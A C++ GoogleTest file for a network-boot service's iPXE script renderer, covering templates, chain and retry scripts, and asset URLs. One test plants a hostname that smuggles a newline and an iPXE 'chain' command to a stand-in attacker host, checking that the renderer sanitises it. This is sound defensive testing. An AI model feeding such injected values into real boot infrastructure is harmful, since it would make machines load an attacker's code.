#include "render/ipxe.h"

#include <cstdio>
#include <set>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "render/template.h"

namespace paddock::render {
namespace {

using ::testing::HasSubstr;
using ::testing::StartsWith;

inventory::Profile TestProfile() {
  inventory::Profile p;
  p.name = "test-node";
  p.kernel = "vmlinuz";
  p.initrds = {"initrd.cpio.gz", "http://mirror.example/extra/modules.cpio?v=2"};
  p.args = "console=ttyS0 panic=1";
  return p;
}

RenderContext TestContext() {
  RenderContext c;
  c.facts.mac = *MacAddress::Parse("52:54:00:e2:e0:01");
  c.facts.uuid = "3289aff7-4d07-431f-ba11-ea0a214d7b8e";
  c.facts.arch = "efi64";
  c.facts.hostname = "node-1";
  c.facts.labels["rack"] = "a";
  c.group = "rack-a-workers";
  c.metadata = {{"role", "worker"}, {"count", 3}, {"gpu", true}};
  c.server_url = "http://198.18.0.1:8080";
  c.boot_token = "tok123";
  return c;
}

TEST(RenderIpxeScript, DefaultTemplateExactOutput) {
  auto script = RenderIpxeScript(TestProfile(), TestContext());
  ASSERT_TRUE(script) << script.error().ToString();
  EXPECT_EQ(*script,
            "#!ipxe\n"
            "echo paddock: 52:54:00:e2:e0:01 group rack-a-workers profile test-node\n"
            "kernel http://198.18.0.1:8080/assets/vmlinuz initrd=initrd.cpio.gz "
            "initrd=modules.cpio console=ttyS0 panic=1 paddock.server=http://198.18.0.1:8080 "
            "paddock.token=tok123 paddock.mac=52:54:00:e2:e0:01\n"
            "initrd http://198.18.0.1:8080/assets/initrd.cpio.gz\n"
            "initrd http://mirror.example/extra/modules.cpio?v=2\n"
            "boot\n");
}

TEST(RenderIpxeScript, SingleInitrdNoArgs) {
  inventory::Profile p;
  p.name = "p";
  p.kernel = "/k/vmlinuz";
  p.initrds = {"sub dir/initrd.gz"};
  auto script = RenderIpxeScript(p, TestContext());
  ASSERT_TRUE(script);
  EXPECT_THAT(*script, HasSubstr("kernel http://198.18.0.1:8080/assets/k/vmlinuz "
                                 "initrd=initrd.gz paddock.server="));
  EXPECT_THAT(*script, HasSubstr("initrd http://198.18.0.1:8080/assets/sub%20dir/initrd.gz\n"));
}

TEST(RenderIpxeScript, CustomTemplateSeesAllVariables) {
  inventory::Profile p = TestProfile();
  p.ipxe_template =
      "#!ipxe\n"
      "echo {{mac_hyphen}} {{uuid}} {{arch}} {{hostname}} {{labels.rack}} {{metadata.role}} "
      "{{metadata.count}}{{#metadata.gpu}} gpu{{/metadata.gpu}} {{token}} {{server_url}}\n"
      "{{#initrds}}echo {{name}}\n{{/initrds}}"
      "kernel {{kernel}} {{args}}\n";
  auto script = RenderIpxeScript(p, TestContext());
  ASSERT_TRUE(script) << script.error().ToString();
  EXPECT_EQ(*script,
            "#!ipxe\n"
            "echo 52-54-00-e2-e0-01 3289aff7-4d07-431f-ba11-ea0a214d7b8e efi64 node-1 a worker "
            "3 gpu tok123 http://198.18.0.1:8080\n"
            "echo initrd.cpio.gz\n"
            "echo modules.cpio\n"
            "kernel http://198.18.0.1:8080/assets/vmlinuz console=ttyS0 panic=1\n");
}

TEST(RenderIpxeScript, MachineStringsCannotInjectLines) {
  RenderContext c = TestContext();
  c.facts.hostname = "evil\nchain http://attacker/x";
  inventory::Profile p = TestProfile();
  p.ipxe_template = "#!ipxe\necho {{{hostname}}}\n";
  auto script = RenderIpxeScript(p, c);
  ASSERT_TRUE(script);
  EXPECT_EQ(*script, "#!ipxe\necho evil_chain http://attacker/x\n");
}

TEST(RenderIpxeScript, RejectsBadTemplates) {
  inventory::Profile p = TestProfile();
  p.ipxe_template = "#!ipxe\n{{#initrds}}initrd {{url}}\n";
  auto script = RenderIpxeScript(p, TestContext());
  ASSERT_FALSE(script);
  EXPECT_THAT(script.error().message, HasSubstr("template syntax"));
  EXPECT_FALSE(DryRenderIpxeTemplate(p));

  p.ipxe_template = "kernel {{kernel}}\nboot\n";
  script = RenderIpxeScript(p, TestContext());
  ASSERT_FALSE(script);
  EXPECT_THAT(script.error().message, HasSubstr("#!ipxe"));

  p.ipxe_template = "";
  EXPECT_TRUE(DryRenderIpxeTemplate(p));
}

// Templates exercising every variable, sections over lists and objects, inverted sections and
// the cmdline assembly with and without a token.
std::vector<std::string> EquivalenceTemplates() {
  return {
      "",  // the built-in template
      "#!ipxe\n"
      "echo {{mac}} {{mac_hyphen}} {{uuid}} {{arch}} {{hostname}} {{serial}} {{asset}}\n"
      "echo {{labels.rack}} {{labels.pool}} {{group}} {{profile}} {{metadata.role}} "
      "{{metadata.count}}{{#metadata.gpu}} gpu{{/metadata.gpu}}{{^metadata.none}} none"
      "{{/metadata.none}}\n"
      "{{#initrds}}initrd --name {{name}} {{url}} ({{group}} {{mac}})\n{{/initrds}}"
      "{{^initrds}}echo no initrds\n{{/initrds}}"
      "kernel {{kernel}} {{cmdline}}\n"
      "echo [{{args}}] [{{token}}] [{{server_url}}] [{{missing}}] [{{labels}}]\n"
      "{{#metadata}}echo meta {{role}} {{mac}}\n{{/metadata}}"
      "{{#labels}}echo labels {{rack}}\n{{/labels}}",
  };
}

TEST(IpxeRenderer, SameOutputAsRenderIpxeScript) {
  for (const std::string& tmpl : EquivalenceTemplates()) {
    for (const char* token : {"tok123", ""}) {
      for (bool no_initrds : {false, true}) {
        inventory::Profile p = TestProfile();
        p.ipxe_template = tmpl;
        if (no_initrds) {
          p.initrds.clear();
          p.args.clear();
        }
        RenderContext c = TestContext();
        c.boot_token = token;
        c.facts.serial = "S\x01N";  // sanitized in both
        c.facts.labels["pool"] = "gpu\nx";
        auto want = RenderIpxeScript(p, c);
        ASSERT_TRUE(want) << want.error().ToString();
        auto renderer = IpxeRenderer::Create(p, c.group, c.metadata, c.server_url);
        ASSERT_TRUE(renderer) << renderer.error().ToString();
        auto got = renderer->Render(c.facts, c.boot_token);
        ASSERT_TRUE(got) << got.error().ToString();
        EXPECT_EQ(*got, *want) << "template: " << tmpl << " token: " << token;
      }
    }
  }
}

TEST(IpxeRenderer, ParsesTheTemplateOnceNotPerRender) {
  inventory::Profile p = TestProfile();
  p.ipxe_template = EquivalenceTemplates()[1];
  RenderContext c = TestContext();
  const uint64_t before = TemplateParseCount();
  auto renderer = IpxeRenderer::Create(p, c.group, c.metadata, c.server_url);
  ASSERT_TRUE(renderer);
  EXPECT_EQ(TemplateParseCount(), before + 1);
  std::set<std::string> scripts;
  for (int i = 0; i < 100; ++i) {
    char mac[32];
    std::snprintf(mac, sizeof(mac), "52:54:00:00:01:%02x", i);
    c.facts.mac = *MacAddress::Parse(mac);
    auto script = renderer->Render(c.facts, "token-" + std::to_string(i));
    ASSERT_TRUE(script) << script.error().ToString();
    EXPECT_THAT(*script, HasSubstr("token-" + std::to_string(i) + "]"));
    scripts.insert(*script);
  }
  EXPECT_EQ(scripts.size(), 100u);  // each render saw its own machine and token
  EXPECT_EQ(TemplateParseCount(), before + 1);
}

TEST(IpxeRenderer, RejectsWhatRenderIpxeScriptRejects) {
  inventory::Profile p = TestProfile();
  p.ipxe_template = "#!ipxe\n{{#initrds}}initrd {{url}}\n";
  auto bad = IpxeRenderer::Create(p, "g", nlohmann::json::object(), "http://s");
  ASSERT_FALSE(bad);
  EXPECT_THAT(bad.error().message, HasSubstr("template syntax"));
  p.ipxe_template = "kernel {{kernel}}\nboot\n";
  auto renderer = IpxeRenderer::Create(p, "g", nlohmann::json::object(), "http://s");
  ASSERT_TRUE(renderer);
  auto script = renderer->Render(TestContext().facts, "t");
  ASSERT_FALSE(script);
  EXPECT_THAT(script.error().message, HasSubstr("#!ipxe"));
}

TEST(CompiledTemplate, RendersLikeRenderTemplateWithoutReparsing) {
  const std::string text = "{{a}}|{{#l}}{{.}},{{/l}}|{{o.k}}|{{^f}}notF{{/f}}";
  nlohmann::json v = {{"a", "x"}, {"l", {1, "y"}}, {"o", {{"k", "v"}}}, {"f", false}};
  auto compiled = CompiledTemplate::Compile(text);
  ASSERT_TRUE(compiled);
  const uint64_t before = TemplateParseCount();
  auto a = compiled->Render(v);
  auto b = compiled->Render(nlohmann::json{{"a", "z"}});
  EXPECT_EQ(TemplateParseCount(), before);
  ASSERT_TRUE(a && b);
  EXPECT_EQ(*a, *RenderTemplate(text, v));
  EXPECT_EQ(*b, "z|||notF");
  EXPECT_FALSE(CompiledTemplate::Compile("{{#a}}"));
}

TEST(RenderChainScript, ChainsWithEveryVariableAndRetries) {
  const std::string s = RenderChainScript("http://198.18.0.1:8080");
  EXPECT_THAT(s, StartsWith("#!ipxe\n"));
  const std::string url =
      "chain http://198.18.0.1:8080/ipxe?mac=${mac:hexhyp}&uuid=${uuid:uristring}"
      "&arch=${buildarch:uristring}&platform=${platform:uristring}"
      "&serial=${serial:uristring}&asset=${asset:uristring} || goto ";
  EXPECT_THAT(s, HasSubstr(url + "paddock_retry1\n"));
  EXPECT_THAT(s, HasSubstr(url + "paddock_retry2\n"));
  EXPECT_THAT(s, HasSubstr(url + "paddock_give_up\n"));
  // Every goto target exists as a label, and the script ends in a failure exit.
  for (const char* label : {":paddock_retry1\n", ":paddock_retry2\n", ":paddock_give_up\n"}) {
    EXPECT_THAT(s, HasSubstr(label));
  }
  EXPECT_THAT(s, ::testing::EndsWith("exit 1\n"));
  EXPECT_THAT(s, HasSubstr("sleep 5\n"));
}

TEST(RenderNoProfileScript, ExplainsAndExits) {
  inventory::MachineFacts f;
  f.mac = *MacAddress::Parse("52:54:00:e2:e0:09");
  const std::string s = RenderNoProfileScript(f);
  EXPECT_THAT(s, StartsWith("#!ipxe\necho paddock: no group"));
  EXPECT_THAT(s, HasSubstr("mac 52:54:00:e2:e0:09, arch unknown"));
  EXPECT_THAT(s, ::testing::EndsWith("sleep 10\nexit 0\n"));
}

TEST(AssetUrl, RelativeAbsoluteAndSchemes) {
  EXPECT_EQ(AssetUrl("http://s:1", "vmlinuz"), "http://s:1/assets/vmlinuz");
  EXPECT_EQ(AssetUrl("http://s:1", "/a/b c"), "http://s:1/assets/a/b%20c");
  EXPECT_EQ(AssetUrl("http://s:1", "https://x/y"), "https://x/y");
  EXPECT_EQ(AssetUrl("http://s:1", "tftp://x/y"), "tftp://x/y");
  EXPECT_EQ(AssetUrl("http://s:1", "a://"), "a://");
  EXPECT_EQ(AssetUrl("http://s:1", "x?y://z"), "http://s:1/assets/x%3Fy%3A//z");
  EXPECT_EQ(ImageName("http://x/y/initrd.img?a=b"), "initrd.img");
  EXPECT_EQ(ImageName("initrd.img"), "initrd.img");
}

}  // namespace
}  // namespace paddock::render
